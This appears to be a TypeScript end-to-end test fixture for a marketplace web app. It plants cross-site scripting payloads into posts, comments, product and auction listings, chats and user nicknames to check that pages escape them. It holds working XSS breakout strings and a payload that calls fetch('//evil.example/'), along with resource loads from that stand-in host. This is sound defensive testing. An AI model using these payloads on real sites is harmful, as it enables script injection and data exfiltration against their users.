import sharp from 'sharp';
import { hostileHtml } from '../../src/platform/rich-text/hostile-html.ts';
import { onDatabaseOf } from './database-of.ts';

/** Reports visibly that it ran, and calls a foreign host. */
const deed = "(window.__owned=1,fetch('//evil.example/'))";

/** Besides cleaning: texts that break out of the context that a page writes them into. */
const breakouts = [
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><svg onload=alert(1)>',
  '<!--<script>alert(1)//-->',
  '\u2028alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '<img src=//evil.example/x.png><img srcset="//evil.example/y.png 1x">',
  '<style>@import "//evil.example/x.css"</style><p style="background:url(//evil.example/z)">x</p>',
  '<video poster=//evil.example/p src=//evil.example/v autoplay></video><audio src=//evil.example/a></audio>',
];

/** A term by which search finds them all. */
const plantedWord = '수상한글';

export const hostileTexts: readonly string[] = [...hostileHtml, ...breakouts].map((text) =>
  text.toWellFormed().replaceAll(/alert\(1\)|alert&#40;1\)/g, deed),
);

export interface Planted {
  token: string;
  user: object;
  /** The pages of the texts themselves. */
  paths: string[];
  /** Pages that show several of them, or a part. */
  lists: string[];
  refused: string[];
}

export interface Planting {
  url: string;
  dataDir: string;
}

/** Writes the texts everywhere a person may write; refused ones are left out. */
export async function plantTexts(server: Planting, texts: readonly string[]): Promise<Planted> {
  const minji = await Writer.signUp(server, 'x" onload=a b=');
  const junho = await Writer.signUp(server, '<svg onload=b()>');
  const paths: string[] = [];
  for (const text of texts) {
    const [title, content] = [`<p>${plantedWord} ${text}</p>`, `<p>${plantedWord}</p>${text}`];
    const postId = await minji.write('/post', { title, content });
    if (postId) paths.push(`/post/${postId}`);
    if (postId) await junho.write('/post/postComment', { postId, comment: content });
    const productId = await minji.offer('product', { title, description: content, price: 1_000 });
    if (productId) paths.push(`/product/${productId}`);
    const auctionId = await minji.offer('auction', {
      title,
      description: content,
      startingPrice: 1_000,
      duration: 1,
    });
    if (auctionId) paths.push(`/auction/${auctionId}`);
    const room =
      productId && (await junho.write<{ chatRoomId: number }>('/createChatroom', { productId, message: text }));
    if (room) paths.push(`/chats/product/${room.chatRoomId}`);
  }
  const found = `/search?keyword=${encodeURIComponent(plantedWord)}`;
  const lists = [
    '/',
    '/auctions',
    '/products',
    '/posts',
    found,
    '/chats',
    '/notifications',
    '/mySell',
    '/myBids',
    '/me',
    '/me/profile',
  ];
  return {
    token: minji.token,
    user: minji.user,
    paths,
    lists,
    refused: [...minji.refused, ...junho.refused],
  };
}

class Writer {
  readonly token: string;
  readonly user: object;
  readonly refused: string[] = [];
  private readonly url: string;

  private constructor(url: string, token: string, user: object) {
    this.url = url;
    this.token = token;
    this.user = user;
  }

  /** With a nickname that only accounts of earlier versions can have: sign-up refuses it. */
  static async signUp({ url, dataDir }: Planting, nickName: string): Promise<Writer> {
    const mark = Math.random().toString(36).slice(2);
    const person = { email: `${mark}@teum.kr`, password: 'teum-planted-1!' };
    await post(`${url}/api/auth/signup`, JSON.stringify({ ...person, userName: '민지', nickName: mark }), json);
    await onDatabaseOf(dataDir, (db) =>
      db.updateTable('account').set({ nick_name: nickName }).where('email', '=', person.email).execute(),
    );
    const login = await post(`${url}/api/auth/login`, JSON.stringify(person), json);
    const { accessToken } = (await login.json()) as { accessToken: string };
    const user = await fetch(`${url}/api/auth/user/info`, { headers: { authorization: `Bearer ${accessToken}` } });
    return new Writer(url, accessToken, (await user.json()) as object);
  }

  write<Answer = number>(path: string, body: object): Promise<Answer | undefined> {
    return this.send(path, JSON.stringify(body), json);
  }

  async offer(kind: 'auction' | 'product', body: object): Promise<number | undefined> {
    const form = new FormData();
    form.append(`${kind}Create`, JSON.stringify(body));
    form.append(`${kind}Thumbnail`, new Blob([new Uint8Array(await picture())], { type: 'image/jpeg' }), 'a.jpg');
    return this.send(`/${kind}`, form, {});
  }

  private async send<Answer>(
    path: string,
    body: string | FormData,
    headers: Record<string, string>,
  ): Promise<Answer | undefined> {
    const answer = await post(`${this.url}/api${path}`, body, { ...headers, authorization: `Bearer ${this.token}` });
    const text = await answer.text();
    if (answer.ok) return JSON.parse(text) as Answer;
    this.refused.push(`${path}: ${answer.status}`);
    return undefined;
  }
}

const picture = (): Promise<Buffer> =>
  sharp({ create: { width: 8, height: 6, channels: 3, background: '#c8553d' } })
    .jpeg()
    .toBuffer();

const json = { 'content-type': 'application/json' };

const post = (url: string, body: string | FormData, headers: Record<string, string>): Promise<Response> =>
  fetch(url, { method: 'POST', body, headers });
